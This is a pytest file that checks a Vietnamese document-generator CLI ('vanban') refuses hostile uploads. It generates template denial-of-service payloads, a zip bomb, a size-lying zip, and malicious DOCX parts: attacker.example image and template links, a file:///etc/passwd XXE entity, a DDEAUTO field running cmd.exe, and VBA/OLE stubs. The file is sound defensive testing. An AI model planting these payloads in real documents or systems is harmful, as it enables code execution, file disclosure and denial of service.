"""Issue 13: hostile uploads (templates, DOCX to check) refused with a located message and exit 1,
within bounded memory and time. Attack files are made at test time; the CLI runs in a subprocess
whose address space is capped at 1 GB, so an attack that allocates past it fails the test."""

from __future__ import annotations

import zipfile

import docx
import pytest

from generator.kinds import render_document
from generator.render import engine
from generator.render.engine import RenderError

from .conftest import SAMPLE, SAMPLE_DIR, capped_vanban
from .test_hardening import TEMPLATE, template_with

PLAN_DOCX = SAMPLE_DIR / "plan.docx"


def vanban(*args, timeout: float = 240, lang: str = "en"):
    """The real CLI in a child process with 1 GB of address space."""
    return capped_vanban(*args, timeout=timeout, lang=lang)


@pytest.fixture
def inproc(cli):
    """The CLI in this process, for cases that cost no memory or time: answers like :func:`vanban`."""
    from types import SimpleNamespace

    def run(*args):
        r = cli(*args)
        return SimpleNamespace(returncode=r.exit_code, stdout=r.stdout, stderr=r.stderr)

    return run


def variant(src, out, *, edit=None, add=None, drop=()):
    """A copy of the DOCX *src* with parts rewritten (edit: name → function of the text) or added."""
    edit, add = edit or {}, add or {}
    with zipfile.ZipFile(src) as a, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as b:
        for info in a.infolist():
            if info.filename in drop:
                continue
            data = a.read(info)
            if info.filename in edit:
                data = edit[info.filename](data.decode()).encode()
            b.writestr(info.filename, data)
        for name, data in add.items():
            b.writestr(name, data)
    return out


# ----------------------------------------------------------------------------- 1. the template sandbox

TEMPLATE_ATTACKS = {
    "string-loops": (
        '{% set s = "x"*100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}',
        "the template loops or calls macros more than 2,000,000 times",
    ),
    "join": ('{{ ([("x"*100000)]*100000)|join|length }}', "makes a text or list too large"),
    "print-list": ('{{ [("x"*100000)]*100000 }}', "makes a text or list too large"),
    "center": ('{{ "x"|center(1000000000) }}', "the filter 'center' is not allowed in templates"),
    "indent": ('{{ "x"|indent(1000000000) }}', "the filter 'indent' is not allowed in templates"),
    "replace": ('{{ ("x"*100000)|replace("x", "x"*100000) }}', "makes a text or list too large"),
    "concat": (
        '{% set a = "x"*100000 %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}'
        "{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{% set a = a~a %}{{ a|length }}",
        "makes a text or list too large",
    ),
    "format": ("{{ '{0:>1000000000}'.format(1) }}", "the text method format is not allowed in templates"),
    "percent": ('{{ "%1000000000d" % 1 }}', "text formatting with % is not allowed in templates"),
    "integer": ("{% set a = 3 %}" + "{% set a = a*a %}" * 40 + "{{ a }}", "computes a number larger than 64 bits"),
    "macro": ("{% macro f(n) %}{{ f(n) }}{{ f(n) }}{% endmacro %}{{ f(1) }}", "macros call each other more than 20 deep"),
    "method": ('{{ "x".ljust(1000000000) }}', "access to attribute 'ljust' of 'str' object is unsafe"),
    "output": (
        '{% set s = "x"*1000000 %}{% for i in range(1000) %}{{ s }}{% endfor %}',
        "the template writes more than 40,000,000 characters",
    ),
    "include": ('{% include "other.docx" %}', "{% include %}, {% import %} and {% extends %} are not allowed"),
    "recursive": ("{% for b in body recursive %}{{ loop(body) }}{% endfor %}", "recursive loops are not allowed"),
}


@pytest.mark.parametrize("case", sorted(TEMPLATE_ATTACKS))
def test_template_attack_is_caught_by_check_and_render(tmp_path, case):
    payload, message = TEMPLATE_ATTACKS[case]
    evil = template_with(tmp_path, {"{{ h.issuer }}": payload})
    checked = vanban("template", "check", evil)
    assert checked.returncode == 1, checked.stderr[-2000:]
    line = next((x for x in checked.stdout.splitlines() if message in x), None)
    assert line is not None, checked.stdout + checked.stderr[-2000:]
    assert line.startswith(f"{evil}: error: word/document.xml"), line  # the part, and the paragraph where it can be told
    rendered = vanban("render", SAMPLE, "-o", tmp_path / "out", "--template", evil)
    assert rendered.returncode == 1, rendered.stderr[-2000:]
    assert rendered.stderr.startswith(f"vanban: {evil}: word/document.xml: ") and message in rendered.stderr, rendered.stderr[
        -2000:
    ]
    assert "Traceback" not in rendered.stderr and not (tmp_path / "out").exists()


def test_template_check_points_at_the_paragraph_of_a_runtime_bound(tmp_path):
    evil = template_with(tmp_path, {"{{ h.issuer }}": TEMPLATE_ATTACKS["join"][0]})
    out = vanban("template", "check", evil).stdout
    assert f"{evil}: error: word/document.xml, paragraph “{TEMPLATE_ATTACKS['join'][0]}”: refused when rendered" in out


def test_bound_reads_in_vietnamese(tmp_path):
    evil = template_with(tmp_path, {"{{ h.issuer }}": TEMPLATE_ATTACKS["join"][0]})
    out = vanban("template", "check", evil, lang="vi").stdout
    assert out.strip() == (
        f"{evil}: lỗi: word/document.xml, đoạn “{TEMPLATE_ATTACKS['join'][0]}”: bị từ chối khi kết xuất: "
        "mẫu tạo ra chuỗi hoặc danh sách quá lớn (hơn 1,000,000 ký tự hoặc phần tử); đã dừng"
    )


def test_counting_a_big_context_list_is_no_attack():
    # Filters that hand back the input's own items are not size-checked: 100 tasks of 20,000 characters may be counted.
    from generator.render.engine import Sandbox, render_bounded

    tasks = [{"text": "x" * 20_000}] * 100
    assert render_bounded(Sandbox().from_string("{{ tasks|length }} {{ tasks|first|length }}"), {"tasks": tasks}) == "100 1"


def test_wall_clock_bound(tmp_path, sample_plan, ref, monkeypatch):
    # A clock that moves one second per reading: the bound is met after MAX_RENDER_SECONDS readings, whatever the machine.
    ticks = iter(range(10**9))
    monkeypatch.setattr(engine, "_clock", lambda: float(next(ticks)))
    slow = template_with(tmp_path, {"{{ h.issuer }}": "{% for i in range(1000) %}{{ i }}{% endfor %}"})
    with pytest.raises(RenderError, match="refused: the template runs longer than 20 seconds; stopped"):
        render_document(sample_plan, ref, slow)


def test_allowed_filters_and_methods_still_work(tmp_path, sample_plan, ref):
    mine = template_with(
        tmp_path,
        {
            "{{ h.issuer }}": '{{ (h.issuer ~ " / " ~ h.left_marks|join(", ")|default("–"))|replace("ĐẢNG ỦY", "Đảng ủy") }}'
            "{% for b in body[:2] %} {{ loop.index }}{% endfor %} {{ h.issuer.split()|length }}"
        },
    )
    doc = docx.Document(__import__("io").BytesIO(render_document(sample_plan, ref, mine)))
    assert doc.tables[0].cell(0, 0).paragraphs[1].text.startswith("Đảng ủy BAN CƠ YẾU CHÍNH PHỦ / ")
    assert doc.tables[0].cell(0, 0).paragraphs[1].text.endswith(" 1 2 7")


# ----------------------------------------------------------------------------- 2. zip parts read under a limit


@pytest.fixture(scope="module")
def bloated_docx(tmp_path_factory):
    """The sample's DOCX with docProps/core.xml replaced by 1 GB of spaces (4.5 MB on disk)."""
    out = tmp_path_factory.mktemp("bloat") / "bloated.docx"
    with zipfile.ZipFile(PLAN_DOCX) as a, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as b:
        for info in a.infolist():
            if info.filename != "docProps/core.xml":
                b.writestr(info.filename, a.read(info))
        with b.open("docProps/core.xml", "w", force_zip64=True) as fh:
            chunk = b" " * (1 << 20)
            for _i in range(1024):
                fh.write(chunk)
    return out


def test_check_refuses_a_part_that_unpacks_past_the_limit(bloated_docx):
    result = vanban("check", bloated_docx)
    assert result.returncode == 1, result.stderr[-2000:]
    assert result.stderr.strip() == f"vanban: {bloated_docx}: part docProps/core.xml unpacks to more than 50 MB; refused"


def _lie_about_size(path, part: str, size: int) -> None:
    """Rewrite the sizes *part* declares (local header and central directory) to *size*."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(part)
    name = part.encode()
    local = info.header_offset
    data[local + 22 : local + 26] = size.to_bytes(4, "little")
    at = data.index(b"PK\x01\x02")  # the central directory's first entry
    while True:
        n = int.from_bytes(data[at + 28 : at + 30], "little")
        m = int.from_bytes(data[at + 30 : at + 32], "little")
        k = int.from_bytes(data[at + 32 : at + 34], "little")
        if bytes(data[at + 46 : at + 46 + n]) == name:
            data[at + 24 : at + 28] = size.to_bytes(4, "little")
            break
        at += 46 + n + m + k
    path.write_bytes(bytes(data))


def test_check_refuses_a_part_that_lies_about_its_size(tmp_path):
    # document.xml says 1 KB and inflates to 50 KB: read up to what it declares, then the CRC fails; named, exit 1.
    liar = variant(PLAN_DOCX, tmp_path / "liar.docx")
    _lie_about_size(liar, "word/document.xml", 1024)
    result = vanban("check", liar)
    assert result.returncode == 1
    assert result.stderr.startswith(f"vanban: {liar}: damaged part word/document.xml (Bad CRC-32"), result.stderr


def test_template_that_unpacks_past_100_mb_in_all_is_refused(tmp_path):
    big = b" " * (19 << 20)
    evil = variant(TEMPLATE, tmp_path / "big.docx", add={f"customXml/item{i}.xml": big for i in range(6)})
    checked = vanban("template", "check", evil)
    assert checked.returncode == 1 and f"{evil}: error: {evil}: unpacks to more than 100 MB in all; refused" in checked.stdout
    rendered = vanban("render", SAMPLE, "-o", tmp_path / "out", "--template", evil)
    assert rendered.returncode == 1 and rendered.stderr.strip() == f"vanban: {evil}: unpacks to more than 100 MB in all; refused"


def test_bounded_reader_serves_excel_forms_too(tmp_path):
    import openpyxl

    from generator.io.safezip import ZipLimitError, open_bounded

    wb = openpyxl.Workbook()
    wb.active["A1"] = "Tiến độ"
    path = tmp_path / "form.xlsx"
    wb.save(path)
    assert openpyxl.load_workbook(open_bounded(path)).active["A1"].value == "Tiến độ"
    with pytest.raises(ZipLimitError, match=r"form.xlsx: part \S+ unpacks to more than 0 MB; refused"):
        open_bounded(path, max_part=100)


# ----------------------------------------------------------------------------- 7. active content in templates

_REL = (
    '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}"{mode}/>'
)


def _with_rel(kind: str, target: str, external: bool = True, rels: str = "word/_rels/document.xml.rels"):
    rel = _REL.format(kind=kind, target=target, mode=' TargetMode="External"' if external else "")
    return {rels: lambda t: t.replace("</Relationships>", rel + "</Relationships>")}


def _with_body(xml: str):
    return {"word/document.xml": lambda t: t.replace("<w:body>", "<w:body>" + xml, 1)}


_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {a}</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">{b}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)

ACTIVE = {
    "image-http": (
        dict(edit=_with_rel("image", "http://attacker.example/p.png")),
        "word/_rels/document.xml.rels",
        "relationship rIdEvil points outside the document (image → http://attacker.example/p.png)",
    ),
    "image-unc": (
        dict(edit=_with_rel("image", "file://server/share/p.png")),
        "word/_rels/document.xml.rels",
        "points outside the document (image → file://server/share/p.png)",
    ),
    "image-file": (
        dict(edit=_with_rel("image", "file:///etc/passwd")),
        "word/_rels/document.xml.rels",
        "points outside the document (image → file:///etc/passwd)",
    ),
    "javascript-link": (
        dict(edit=_with_rel("hyperlink", "javascript:alert(1)")),
        "word/_rels/document.xml.rels",
        "points outside the document (hyperlink → javascript:alert(1))",
    ),
    "attached-template": (
        dict(
            edit=_with_rel("attachedTemplate", "https://attacker.example/t.dotm", rels="word/_rels/settings.xml.rels"),
            add={"word/_rels/settings.xml.rels": ""},
        ),
        "word/_rels/settings.xml.rels",
        "points outside the document (attachedTemplate → https://attacker.example/t.dotm)",
    ),
    "vba": (
        dict(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "word/vbaProject.bin",
        "a macro or embedded object (code Word may run); refused",
    ),
    "ole": (
        dict(edit=_with_rel("oleObject", "embeddings/oleObject1.bin", external=False)),
        "word/_rels/document.xml.rels",
        "relationship rIdEvil of type oleObject (macros, embedded or imported content); refused",
    ),
    "dde": (
        dict(
            edit=_with_body(
                "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" '>"
                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
            )
        ),
        "word/document.xml",
        "field DDEAUTO fetches, runs or imports content",
    ),
    "includetext": (
        dict(edit=_with_body(_FIELD.format(a="INCLUDE", b='TEXT "\\\\\\\\server\\\\share\\\\a.docx"'))),
        "word/document.xml",
        "field INCLUDETEXT fetches, runs or imports content",
    ),
    "includepicture": (
        dict(edit=_with_body(_FIELD.format(a="INCLUDEPICTURE", b=' "http://attacker.example/p.png" \\d'))),
        "word/document.xml",
        "field INCLUDEPICTURE fetches, runs or imports content",
    ),
}


@pytest.mark.parametrize("case", sorted(ACTIVE))
def test_active_content_in_a_template_is_refused(tmp_path, case, inproc):
    how, part, message = ACTIVE[case]
    how = dict(how)
    if case == "attached-template":  # our template has no settings relationships: give it some
        how["add"] = {
            "word/_rels/settings.xml.rels": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
            )
        }
        edit = how.pop("edit")
        src = variant(TEMPLATE, tmp_path / "with-rels.docx", add=how.pop("add"))
        evil = variant(src, tmp_path / "evil.docx", edit=edit)
    else:
        evil = variant(TEMPLATE, tmp_path / "evil.docx", **how)
    checked = inproc("template", "check", evil)
    assert checked.returncode == 1
    assert any(x.startswith(f"{evil}: error: {part}: ") and message in x for x in checked.stdout.splitlines()), checked.stdout
    rendered = inproc("render", SAMPLE, "-o", tmp_path / "out", "--template", evil)
    assert rendered.returncode == 1 and rendered.stderr.startswith(f"vanban: {evil}: {part}: ") and message in rendered.stderr, (
        rendered.stderr
    )
    assert not (tmp_path / "out").exists()


def test_page_number_fields_are_still_allowed():
    # Our own templates number pages with PAGE fields: not active content.
    from generator.io.activecontent import active_content

    with zipfile.ZipFile(TEMPLATE) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    assert b"PAGE" in b"".join(parts.values()) and active_content(parts) == []


# ----------------------------------------------------------------------------- 10. located messages, not internal errors


def test_universal_measure_is_read_not_a_crash(tmp_path, inproc):
    # OOXML allows w:firstLine="0.5in": read as 12.7 mm, the same finding as the twips it stands for.
    inch = variant(
        PLAN_DOCX,
        tmp_path / "inch.docx",
        edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="0.5in"')},
    )
    twips = variant(
        PLAN_DOCX,
        tmp_path / "twips.docx",
        edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="720"')},
    )
    a, b = inproc("check", inch), inproc("check", twips)
    assert "Traceback" not in a.stderr and a.returncode == b.returncode
    assert a.stdout.replace(str(inch), "X") == b.stdout.replace(str(twips), "X")


def test_a_measure_that_is_not_one_is_located(tmp_path, inproc):
    bad = variant(
        PLAN_DOCX,
        tmp_path / "bad.docx",
        edit={"word/styles.xml": lambda t: t.replace('w:firstLine="567"', 'w:firstLine="nửa inch"')},
    )
    result = inproc("check", bad)
    assert result.returncode == 1
    assert result.stderr.strip() == (
        f"vanban: {bad}: w:ind/@w:firstLine: 'nửa inch' is not a measure (a number, or a number with mm, cm, in, pt or pc)"
    )


def test_a_style_without_a_name_is_checked(tmp_path, inproc):
    import re

    nameless = variant(
        PLAN_DOCX,
        tmp_path / "nameless.docx",
        edit={"word/styles.xml": lambda t: re.sub(r'(<w:style [^>]*w:styleId="VBNoiDung"[^>]*>)<w:name [^>]*/>', r"\1", t)},
    )
    assert 'w:styleId="VBNoiDung"><w:name' not in zipfile.ZipFile(nameless).read("word/styles.xml").decode()
    result = inproc("check", nameless)
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert result.stderr.strip().endswith("0 error(s), 0 warning(s) under profile quan-doi"), result.stderr


def test_a_doctype_in_the_theme_is_refused_by_name(tmp_path, inproc):
    xxe = '<!DOCTYPE a:theme [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    evil = variant(PLAN_DOCX, tmp_path / "theme.docx", edit={"word/theme/theme1.xml": lambda t: t.replace("?>", "?>" + xxe, 1)})
    result = inproc("check", evil)
    assert result.returncode == 1
    assert result.stderr.strip() == (
        f"vanban: {evil}: word/theme/theme1.xml: contains a DOCTYPE/ENTITY declaration, which Word documents never need; refused"
    )
